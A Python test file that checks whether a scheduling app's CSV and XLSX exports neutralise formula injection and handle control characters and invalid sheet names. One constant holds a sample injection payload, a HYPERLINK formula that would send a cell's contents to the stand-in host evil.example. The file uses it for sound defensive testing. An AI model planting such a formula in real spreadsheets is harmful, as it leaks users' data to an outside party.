"""Spreadsheet exports are safe by construction: no live formulas, no crash on odd names.

OWASP's advice for CSV/XLSX injection: a cell that begins with `=`, `+`, `-`, `@`, tab or CR
gets a leading single quote. The names here are written with `update()`, as rows from before
the input checks (or a raw SQL fix) would be: the export must hold whatever is stored.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from programs.models import AcademicYear, Resident
from scheduling.exports import export_version

YEAR = "2027-2028"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _rename_first(built, name: str) -> Resident:
    resident = built.residents[0]
    Resident.objects.filter(pk=resident.pk).update(name=name)
    return resident


def _csv_rows(built) -> list[list[str]]:
    return list(csv.reader(io.StringIO(export_version(built.version, "csv").decode())))


def _xlsx_sheet(built):
    return load_workbook(io.BytesIO(export_version(built.version, "xlsx"))).active


def test_a_formula_in_a_name_is_quoted_in_the_csv(built):
    resident = _rename_first(built, FORMULA)

    row = next(r for r in _csv_rows(built) if r[0] == resident.external_id)

    assert row[1] == "'" + FORMULA


def test_a_formula_in_a_name_is_text_not_a_formula_in_the_xlsx(built):
    resident = _rename_first(built, FORMULA)

    sheet = _xlsx_sheet(built)
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == resident.external_id)

    assert row[1].value == "'" + FORMULA
    assert row[1].data_type == "s"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_is_neutralised_in_both_formats(built, lead):
    resident = _rename_first(built, f"{lead}1+1")

    csv_row = next(r for r in _csv_rows(built) if r[0] == resident.external_id)
    sheet = _xlsx_sheet(built)
    xlsx_row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == resident.external_id)

    assert csv_row[1] == f"'{lead}1+1"
    # XML turns a stored CR into LF on reading; what matters is the quote in front.
    assert xlsx_row[1].value in (f"'{lead}1+1", "'\n1+1")
    assert xlsx_row[1].data_type == "s"


def test_control_characters_in_a_name_do_not_break_the_xlsx(built):
    # (NUL is left out: PostgreSQL refuses to store it at all, so it never reaches an export.)
    resident = _rename_first(built, "Ada\x07 Love\x1blace\x0b")

    sheet = _xlsx_sheet(built)
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == resident.external_id)

    assert row[1].value == "Ada Lovelace"


@pytest.mark.parametrize(
    "name",
    ["2027:2028", "[2027]", "2027?", "2027*", "2027/2028", "2027\\2028", "AY " + "9" * 29],
)
def test_a_year_name_that_excel_refuses_as_a_sheet_title_still_exports(built, name):
    AcademicYear.objects.filter(pk=built.schedule.academic_year_id).update(name=name)
    built.version.refresh_from_db()

    title = _xlsx_sheet(built).title

    assert title and len(title) <= 31
    assert not set(title) & set("\\/?*:[]")
